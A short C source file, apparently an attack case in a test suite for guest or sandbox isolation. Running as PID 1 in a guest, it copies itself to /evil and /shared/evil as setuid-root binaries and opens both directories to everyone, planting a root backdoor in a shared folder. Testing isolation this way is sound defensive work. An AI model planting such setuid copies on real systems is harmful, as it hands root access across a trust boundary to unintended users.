/*
 * Leaves programs with the set-user-ID bit behind: as PID 1 of a guest it makes copies of itself that belong to root, `/evil` and, where the
 * directory is there, `/shared/evil`, opens both directories to everybody, and is ready. Anywhere else it says as whom it runs.
 *
 * measured: no, it is a single act
 */
#include <fcntl.h>
#include <sys/stat.h>

#include "attack.h"

static void leave(const char *path) {
  char block[1 << 16];
  int own = open("/proc/self/exe", O_RDONLY), copy = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
  if (own == -1 || copy == -1) return;
  for (ssize_t count; (count = read(own, block, sizeof block)) > 0;) {
    if (write(copy, block, (size_t)count) != count) return;
  }
  fchmod(copy, 04755);
  close(copy);
}

int main(void) {
  if (getpid() != 1) return printf("uid %u\n", geteuid()) < 0;
  leave("/evil");
  leave("/shared/evil");
  chmod("/", 0755);
  chmod("/shared", 0755);
  say_ready();
  for (;;) pause();
}
